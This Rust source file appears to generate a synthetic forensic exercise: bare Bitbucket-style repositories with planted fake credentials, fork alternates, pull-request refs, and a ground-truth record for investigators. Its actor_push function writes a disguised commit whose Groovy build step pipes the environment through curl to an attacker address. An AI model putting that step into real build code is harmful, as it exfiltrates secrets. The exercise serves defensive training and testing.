//! The bare repositories of the home, filled by real pushes.

use std::{
    collections::BTreeMap,
    path::{Path, PathBuf},
};

use anyhow::{Context, Result};
use chrono::{DateTime, Duration, Utc};

use super::{
    content, credentials,
    credentials::Secret,
    git::Git,
    history::{History, Imported, Mark},
    people::Person,
    placement::{Placed, Writer},
    rng::{HEX, Rng},
    spec::{Act, Alternates, Repository, Spec},
    truth,
};

/// Where repositories lie below the home.
pub const FOLDER: &str = "shared/data/repositories";

/// What the repositories came to hold.
#[derive(Debug, Default)]
pub struct Outcome {
    /// Every credential in every repository.
    pub exposed: Vec<truth::Exposed>,
    /// The commits that the actor pushed.
    pub pushed: Vec<truth::Pushed>,
    /// Access keys by the credential's name, for CloudTrail.
    pub secrets: BTreeMap<String, Secret>,
}

struct Builder<'a> {
    spec: &'a Spec,
    git: Git,
    home: &'a Path,
    scratch: &'a Path,
    people: &'a [Person],
    /// Tips of the main branches, for forks.
    tips: BTreeMap<u32, (Mark, DateTime<Utc>)>,
    outcome: Outcome,
}

/// Makes every repository of the description and the ordinary ones beside them.
pub fn write(spec: &Spec, home: &Path, scratch: &Path, people: &[Person]) -> Result<Outcome> {
    std::fs::create_dir_all(home.join(FOLDER))?;
    let secrets = make_secrets(spec)?;
    let outcome = Outcome { secrets, ..Outcome::default() };
    let git = Git::new(scratch)?;
    let mut builder = Builder { spec, git, home, scratch, people, tips: BTreeMap::new(), outcome };
    let mut all = spec.repository.clone();
    all.extend(others(spec));
    all.sort_by_key(|repository| (repository.fork_of.is_some(), repository.id));
    for repository in &all {
        builder.one(repository).with_context(|| format!("repository {}", repository.name()))?;
    }
    Ok(builder.outcome)
}

/// Every repository of the instance, the ordinary ones too.
pub fn all(spec: &Spec) -> Vec<Repository> {
    let mut all = spec.repository.clone();
    all.extend(others(spec));
    all
}

/// Repositories that nothing happens in.
fn others(spec: &Spec) -> Vec<Repository> {
    let mut rng = Rng::new(spec.seed, "other repositories");
    let projects = ["PAY", "PLAT", "WEB", "DATA", "MOB", "OPS"];
    (0..spec.other_repositories)
        .map(|number| Repository {
            id: 1000 + number,
            project: (*rng.pick(&projects)).into(),
            slug: format!("component-{number:03}"),
            commits: rng.between(2, 9) as u32,
            packed: rng.chance(40),
            fork_of: None,
            acts: Vec::new(),
        })
        .collect()
}

fn make_secrets(spec: &Spec) -> Result<BTreeMap<String, Secret>> {
    spec.credential
        .iter()
        .map(|credential| {
            let mut rng = Rng::new(spec.seed, &format!("credential {}", credential.name));
            let at = spec.attack.from - Duration::days(200);
            let name = credential.name.replace('-', "_");
            let secret = credentials::make(credential.kind, &mut rng, &spec.aws.account, &name, at)?;
            Ok((credential.name.clone(), secret))
        })
        .collect()
}

/// The number of the repository that a fork's work goes on from, else its own.
fn origin(repository: &Repository) -> u32 {
    repository.fork_of.unwrap_or(repository.id)
}

impl Builder<'_> {
    fn bare(&self, id: u32) -> PathBuf {
        self.home.join(FOLDER).join(id.to_string())
    }

    fn work(&self, repository: &Repository) -> Result<PathBuf> {
        let work = self.scratch.join(format!("work-{}", origin(repository)));
        if !work.exists() {
            std::fs::create_dir_all(&work)?;
            self.git.run(&work, ["init", "--quiet", "--bare", "--template="])?;
        }
        Ok(work)
    }

    fn one(&mut self, repository: &Repository) -> Result<()> {
        let bare = self.init(repository)?;
        let work = self.work(repository)?;
        let mut rng = Rng::new(self.spec.seed, &format!("repository {}", repository.id));
        let age = rng.between(60, 600) + u64::from(repository.commits) * 4;
        let started = self.spec.attack.from - Duration::days(age as i64);
        let base = repository.fork_of.and_then(|id| self.tips.get(&id).copied());
        let mut history = History::new(repository.id, base.map_or(started, |(_, at)| at + Duration::days(1)));
        let by = rng.pick(self.people).clone();
        let (path, bytes) = content::file(&mut rng);
        let parents: Vec<Mark> = base.iter().map(|(mark, _)| *mark).collect();
        let first = format!("{} {}\n", if base.is_some() { "Fork" } else { "Start" }, repository.slug);
        let tip = history.commit("master", &by, &first, &parents, &[(&path, Some(&bytes))]);
        let mut writer =
            Writer { history: &mut history, rng: &mut rng, people: self.people, tip, next_pull_request: 1 };
        let placed = place_all(self.spec, &self.outcome.secrets, repository, &mut writer)?;
        let tip = writer.tip;
        let stage = history.stage("master");
        history.push(&format!("{stage}:refs/heads/master"));
        self.tips.insert(repository.id, (tip, history.now()));
        let pushed = repository.acts.contains(&Act::ClonePush).then(|| self.actor_push(&mut history, tip));
        let imported = history.import_and_push(&self.git, &work, &bare)?;
        if let Some(mark) = pushed {
            let commit = imported.id(mark)?.to_owned();
            self.outcome.pushed.push(truth::Pushed { repository: repository.name(), commit });
        }
        let dangling = self.finish(repository, &placed, &imported, &bare)?;
        self.record(repository, &placed, &imported, &dangling)
    }

    /// An empty server repository, with what Bitbucket writes beside git's own files.
    fn init(&self, repository: &Repository) -> Result<PathBuf> {
        let bare = self.bare(repository.id);
        std::fs::create_dir_all(&bare)?;
        self.git.run(&bare, ["init", "--quiet", "--bare", "--template="])?;
        std::fs::create_dir_all(bare.join("app-info"))?;
        let hierarchy = Rng::new(self.spec.seed, &format!("hierarchy {}", origin(repository))).text(HEX, 20);
        let rule = "#>***********************************************";
        let text = format!(
            "{rule}\n# THIS FILE IS MAINTAINED BY ATLASSIAN BITBUCKET\n# IT CONTAINS NO USER-SERVICEABLE PARTS.\n{rule}\n[bitbucket]\n\thierarchy = {hierarchy}\n\tproject = {}\n\trepository = {}\n",
            repository.project, repository.slug
        );
        std::fs::write(bare.join("repository-config"), text)?;
        if let Some(origin) = repository.fork_of {
            std::fs::create_dir_all(bare.join("objects/info"))?;
            let path = format!("../../{origin}/objects\n");
            std::fs::write(bare.join("objects/info/alternates"), path)?;
        }
        Ok(bare)
    }

    /// The commit that the actor pushes: a build step that sends the environment away.
    fn actor_push(&self, history: &mut History, tip: Mark) -> Mark {
        history.next_round();
        history.set_clock(self.spec.attack.from + Duration::minutes(131));
        let attack = &self.spec.attack;
        let by = self.people.iter().find(|person| person.user == attack.stolen_account).cloned();
        let by = by.unwrap_or_else(|| super::people::person(&mut Rng::new(0, ""), 0, "nobody", "Nobody"));
        let step = format!(
            "def call() {{\n  sh 'env | curl -s --data-binary @- http://{}:8443/b'\n}}\n",
            attack.late_address
        );
        let files: [(&str, Option<&[u8]>); 1] = [("vars/notifyBuild.groovy", Some(step.as_bytes()))];
        let mark = history.commit("actor", &by, "Fix the build notification\n", &[tip], &files);
        let stage = history.stage("actor");
        history.push(&format!("{stage}:refs/heads/master"));
        mark
    }

    /// Refs that Bitbucket writes by itself, dangling blobs, packing.
    fn finish(
        &self,
        repository: &Repository,
        placed: &[(usize, Placed)],
        imported: &Imported,
        bare: &Path,
    ) -> Result<BTreeMap<usize, String>> {
        let mut dangling = BTreeMap::new();
        for (index, place) in placed {
            if let Some((number, open, to)) = place.pull_request {
                let from = imported.id(place.commit.context("a pull request has a commit")?)?;
                let folder = bare.join(format!("stash-refs/pull-requests/{number}"));
                std::fs::create_dir_all(&folder)?;
                std::fs::write(folder.join("from"), format!("{from}\n"))?;
                std::fs::write(folder.join("to"), format!("{}\n", imported.id(to)?))?;
                if open {
                    std::fs::write(folder.join("merge"), format!("{from}\n"))?;
                }
            }
            if let Some(bytes) = &place.dangling {
                let id = self.git.run_with(bare, &["hash-object", "-w", "--stdin"], bytes)?;
                dangling.insert(*index, id.trim().to_owned());
            }
        }
        if repository.packed {
            // -k keeps what no ref reaches, as Bitbucket's own collection does; -l leaves the origin's objects there.
            self.git.run(bare, ["repack", "-a", "-d", "-k", "-l", "-q"])?;
            self.git.run(bare, ["pack-refs", "--all"])?;
        }
        Ok(dangling)
    }

    /// Writes down what was placed, with git's own word on what reaches it.
    fn record(
        &mut self,
        repository: &Repository,
        placed: &[(usize, Placed)],
        imported: &Imported,
        dangling: &BTreeMap<usize, String>,
    ) -> Result<()> {
        let bare = self.bare(repository.id);
        for (index, place) in placed {
            let Some(credential) = self.spec.credential.get(*index) else { continue };
            let secret = self.outcome.secrets.get(&credential.name).context("a credential was not made")?;
            let mut exposed = truth::Exposed::new(credential, secret, repository);
            exposed.object = place.object.into();
            exposed.path.clone_from(&place.path);
            exposed.at_head = place.at_head;
            exposed.object_id = dangling.get(index).cloned();
            if let Some(mark) = place.commit {
                let (commit, info) = (imported.id(mark)?, imported.info(mark)?);
                exposed.commit = Some(commit.to_owned());
                exposed.author = Some(info.name.clone());
                exposed.email = Some(info.email.clone());
                exposed.committed_at = Some(info.at);
                exposed.reachable = self.reachable(&bare, commit)?;
            } else if place.object == "tag" {
                exposed.reachable = vec![format!("refs/tags/release-{}", credential.name)];
            }
            self.outcome.exposed.push(exposed);
        }
        self.inherit(repository, &bare);
        Ok(())
    }

    /// A fork reaches what its origin's history held when it was forked.
    fn inherit(&mut self, repository: &Repository, bare: &Path) {
        let Some(origin) = repository.fork_of else { return };
        let folder = format!("{FOLDER}/{origin}");
        let here: Vec<truth::Exposed> =
            self.outcome.exposed.iter().filter(|exposed| exposed.folder == folder).cloned().collect();
        for exposed in here {
            let Some(commit) = &exposed.commit else { continue };
            let reachable = self.reachable(bare, commit).unwrap_or_default();
            if !reachable.is_empty() {
                self.outcome.exposed.push(truth::Exposed {
                    repository: repository.name(),
                    folder: format!("{FOLDER}/{}", repository.id),
                    reachable,
                    inherited: true,
                    ..exposed
                });
            }
        }
    }

    fn reachable(&self, bare: &Path, commit: &str) -> Result<Vec<String>> {
        let args = ["for-each-ref", "--format=%(refname)", "--contains", commit];
        let mut refs: Vec<String> = self.git.run(bare, args)?.lines().map(str::to_owned).collect();
        let folder = bare.join("stash-refs/pull-requests");
        let numbers = if folder.is_dir() { std::fs::read_dir(&folder)?.collect() } else { Vec::new() };
        for number in numbers {
            let number = number?.path();
            for name in ["from", "to", "merge"] {
                let Ok(tip) = std::fs::read_to_string(number.join(name)) else { continue };
                if self.git.run(bare, ["rev-list", tip.trim()])?.lines().any(|id| id == commit) {
                    let number = number.file_name().unwrap_or_default().to_string_lossy().into_owned();
                    refs.push(format!("stash-refs/pull-requests/{number}/{name}"));
                }
            }
        }
        refs.sort();
        Ok(refs)
    }
}

/// Ordinary commits with the repository's credentials spread among them.
fn place_all(
    spec: &Spec,
    secrets: &BTreeMap<String, Secret>,
    repository: &Repository,
    writer: &mut Writer<'_>,
) -> Result<Vec<(usize, Placed)>> {
    let here: Vec<usize> = (0..spec.credential.len())
        .filter(|index| spec.credential.get(*index).is_some_and(|c| c.repositories.contains(&repository.id)))
        .collect();
    let mut placed = Vec::new();
    let spacing = repository.commits / (here.len() as u32 + 1);
    for index in here {
        for _ in 0..spacing {
            writer.ordinary();
        }
        let Some(credential) = spec.credential.get(index) else { continue };
        let secret = secrets.get(&credential.name).context("a credential was not made")?;
        placed.push((index, writer.place(&credential.name, secret, credential.placement)?));
    }
    for _ in 0..spacing.max(1) {
        writer.ordinary();
    }
    Ok(placed)
}

/// Rewrites alternates to the path on the compromised host, where the description wants that.
pub fn finish_alternates(spec: &Spec, home: &Path) -> Result<()> {
    if spec.alternates == Alternates::Relative {
        return Ok(());
    }
    for repository in &spec.repository {
        let Some(origin) = repository.fork_of else { continue };
        let path = home.join(FOLDER).join(repository.id.to_string()).join("objects/info/alternates");
        let host = "/var/atlassian/application-data/bitbucket";
        std::fs::write(path, format!("{host}/{FOLDER}/{origin}/objects\n"))?;
    }
    Ok(())
}
